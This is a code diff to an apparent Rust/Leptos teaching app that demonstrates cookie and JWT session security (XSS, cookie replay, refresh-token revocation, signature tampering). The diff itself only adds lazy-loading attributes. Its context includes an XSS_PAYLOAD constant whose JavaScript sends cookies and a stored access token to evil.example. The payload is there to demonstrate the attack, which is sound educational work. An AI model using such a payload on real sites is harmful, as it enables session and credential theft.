@@ -7,6 +7,7 @@ mod cross_site;
 mod memory;
 mod token_replay;
 
+use leptos::lazy;
 use leptos::prelude::*;
 use leptos::task::spawn_local;
 use serde_json::{Value, json};
@@ -124,6 +125,7 @@ fn store_ops(exchange: &Exchange) -> Vec<(String, String)> {
         .unwrap_or_default()
 }
 
+#[lazy]
 async fn store_rows() -> Vec<Line> {
     // Matched by id rather than by counting, so other visitors' logins cannot blur it.
     let session_login = post("/api/session/login", alice()).await;
@@ -157,6 +159,7 @@ async fn store_rows() -> Vec<Line> {
 
 // --- 2. The browser sends the cookie by itself; the token must be attached by code --------
 
+#[lazy]
 async fn who_attaches() -> Vec<Line> {
     post("/api/session/login", alice()).await;
     let (_, access, _) = token_login().await;
@@ -184,6 +187,7 @@ async fn who_attaches() -> Vec<Line> {
 /// reads through the same browser APIs (the page's strict CSP allows no `eval`).
 pub const XSS_PAYLOAD: &str = "fetch('https://evil.example/steal', {method: 'POST', body: JSON.stringify({cookie: document.cookie, token: localStorage.getItem('authlens.access_token')})})";
 
+#[lazy]
 async fn xss() -> Vec<Line> {
     post("/api/session/login", alice()).await;
     let (_, access, _) = token_login().await;
@@ -219,6 +223,7 @@ async fn xss() -> Vec<Line> {
 
 // --- 4. Session logout kills the old cookie at once ---------------------------------------
 
+#[lazy]
 async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
     post("/api/session/login", alice()).await;
     let before = get("/api/session/me", None).await;
@@ -244,6 +249,7 @@ async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
 
 // --- 6. Refresh tokens: revoked at logout, and reuse revokes the family -------------------
 
+#[lazy]
 async fn refresh_rules() -> Vec<Line> {
     let refresh = |token: &str| post("/api/jwt/refresh", json!({"refresh_token": token}));
     let (_, _, first) = token_login().await;
@@ -276,6 +282,7 @@ async fn refresh_rules() -> Vec<Line> {
 
 // --- 8. One changed payload character breaks the signature --------------------------------
 
+#[lazy]
 async fn tamper() -> Vec<Line> {
     let (_, access, _) = token_login().await;
     let Some(tampered) = token::tamper_payload(&access) else {
